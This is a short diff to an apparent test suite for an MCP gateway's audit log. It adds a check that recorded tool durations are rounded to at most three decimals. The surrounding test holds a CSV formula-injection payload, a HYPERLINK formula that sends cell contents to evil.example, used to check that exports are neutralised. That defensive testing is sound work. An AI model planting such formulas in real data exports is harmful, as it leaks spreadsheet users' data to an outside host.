@@ -455,8 +455,10 @@ virtualMcps:
     expect(text).toContain("event: record");
     expect(text).toContain('"exposedName":"add"');
     await reader.cancel();
-    const found = (await (await fetch(`${gateway.url}/admin/api/audit?tool=add&kind=mcp`, { headers })).json()) as { exposedName: string; outcome: string }[];
+    const found = (await (await fetch(`${gateway.url}/admin/api/audit?tool=add&kind=mcp`, { headers })).json()) as { exposedName: string; outcome: string; durationMs: number }[];
     expect(found[0]).toMatchObject({ exposedName: "add", outcome: "ok" });
+    // Durations are kept to the microsecond, not as a float's noise (2.1206490000004123) in the trail, exports and stats.
+    expect(String(found[0]!.durationMs)).toMatch(/^\d+(\.\d{1,3})?$/);
     // A person can put text in the trail (here a tool name): a formula must not run when the CSV is opened in a spreadsheet.
     await c.callTool({ name: '=HYPERLINK("http://evil.example/?"&A1,"click")', arguments: {} });
     const csv = await (await fetch(`${gateway.url}/admin/api/audit/export?format=csv`, { headers })).text();
